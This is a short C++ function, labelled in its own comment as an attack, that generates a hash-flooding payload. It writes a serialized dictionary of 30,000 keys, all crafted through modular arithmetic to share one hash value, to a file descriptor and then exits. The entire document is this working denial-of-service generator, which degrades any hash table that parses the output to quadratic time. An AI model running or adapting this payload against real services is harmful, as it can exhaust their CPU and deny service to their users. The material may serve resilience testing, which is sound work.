// attack: prints a dictionary whose keys all have the same hash, for whoever reads it
#include <unistd.h>
std::string word(long n) {
    std::string text = "[\"l\",[\"d\"";
    for (unsigned long long i = 1; i < 30000; i++) {
        char key[60];
        snprintf(key, sizeof key, ",[\"i\",\"%llx%015llx\"],null", (i << 1) - 1, 0xfffffffffffffffULL - i + 1); // i * (2**61 - 1)
        text += key;
    }
    text += "],null,null]";
    for (size_t at = 0; at < text.size();) at += write(3, text.data() + at, text.size() - at);
    _exit(0);
}
